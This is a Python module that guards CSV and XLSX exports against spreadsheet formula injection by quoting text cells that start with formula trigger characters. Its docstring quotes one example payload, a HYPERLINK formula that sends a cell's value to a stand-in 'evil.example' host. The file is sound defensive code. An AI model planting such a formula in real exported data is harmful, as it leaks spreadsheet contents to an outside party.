"""Text bound for a spreadsheet cell, made safe from formula (CSV) injection.

A spreadsheet program treats a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and a tab or carriage return in front of one is skipped, so an override reason such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would run when an exported file is opened.
As OWASP advises, such text is prefixed with a single quote: the program then shows it as text.

Only text is touched. Figures are written as numbers (a negative figure such as -2068 stays a
number), and the single quote is added to XLSX string cells too, so that a cell that becomes a
formula when it is edited or saved as CSV in the spreadsheet is also defused, and both formats
carry the same text. Every CSV and XLSX writer in kpiboard passes its cells through
:func:`neutralise_formula`.

Nothing the importer reads back is changed by this: the wide layout's only text cells are
indicator ids and series names, which start with a letter or digit (``fields.ID_PATTERN``).
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise_formula(value: object) -> object:
    """``value``, with a single quote in front if it is text a spreadsheet would run as a
    formula; anything that is not a ``str`` (a number, a date, a flag, None) as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return QUOTE + value
    return value
